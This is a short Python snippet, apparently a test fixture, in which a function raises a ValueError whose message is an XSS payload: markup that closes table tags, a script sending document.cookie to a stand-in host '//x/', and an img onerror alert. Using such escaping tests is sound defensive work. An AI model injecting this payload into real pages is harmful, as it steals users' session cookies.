"""Raises markup and script."""


def custom_lift_forward(seed, x, n_copies, features):
    raise ValueError("</td></table><script>fetch('//x/'+document.cookie)</script><img src=x onerror=alert(1)>")
